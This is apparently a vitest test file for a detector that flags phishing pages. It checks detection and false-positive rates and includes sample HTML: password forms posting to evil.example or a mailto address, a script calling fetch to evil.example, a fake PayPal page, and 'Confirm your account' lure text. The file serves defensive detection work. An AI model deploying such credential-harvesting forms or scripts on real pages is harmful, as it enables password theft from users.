import { describe, expect, it } from 'vitest';
import { harmlessPages, imitatingPages, type JudgedPage } from '../../../test/support/pages/secret-forms.ts';
import { scanPage } from './scan-page.ts';
import { type SecretFields, suspicionOf } from './suspicion.ts';

async function judge(html: string) {
  async function* whole() {
    yield html;
  }
  return suspicionOf([(await scanPage(whole())).secrets]);
}

/** Returns the names of the pages that are held, or that are not. */
async function namesWhere(pages: JudgedPage[], held: boolean): Promise<string[]> {
  const names: string[] = [];
  for (const { name, html } of pages) if (((await judge(html)) !== undefined) === held) names.push(name);
  return names;
}

describe('suspicionOf', () => {
  it('holds fewer than one in a hundred harmless pages with forms', async () => {
    const pages = harmlessPages();
    expect(pages.length).toBeGreaterThanOrEqual(200);
    expect((await namesWhere(pages, true)).length / pages.length).toBeLessThan(0.01);
  });

  it('holds more than 95 in a hundred pages that imitate others to get passwords', async () => {
    const pages = imitatingPages();
    expect(pages.length).toBeGreaterThanOrEqual(60);
    expect((await namesWhere(pages, false)).length / pages.length).toBeLessThan(0.05);
  });

  it.each([
    ['<form action="https://evil.example/x"><input type=password></form>', { reason: 'form', host: 'evil.example' }],
    ['<form action="mailto:a@evil.example"><input type=password></form>', { reason: 'form', host: 'mailto' }],
    ['<input type=password><script>fetch("https://evil.example")</script>', { reason: 'script' }],
    ['<h1>PayPal</h1><input type=password><script src=a.js></script>', { reason: 'imitates', brand: 'PayPal' }],
    ['Confirm your account<input type=password><script src=a.js></script>', { reason: 'lures' }],
  ])('says why it holds %s', async (html, suspicion) => {
    expect(await judge(html)).toEqual(suspicion);
  });

  it('reads scripts for the pages of a site together', () => {
    const facts: SecretFields = {
      asksSecrets: true,
      sendsTo: undefined,
      scripts: 'none',
      imitation: { brand: 'PayPal', lures: false },
    };
    const quiet: SecretFields = { ...facts, asksSecrets: false, imitation: { brand: undefined, lures: false } };
    expect(suspicionOf([facts, quiet])).toBeUndefined();
    expect(suspicionOf([facts, { ...quiet, scripts: 'sends' }])).toEqual({ reason: 'imitates', brand: 'PayPal' });
    expect(suspicionOf([{ ...facts, imitation: quiet.imitation }, quiet], 'sends away')).toEqual({ reason: 'script' });
    expect(suspicionOf([quiet], 'sends away')).toBeUndefined();
  });
});
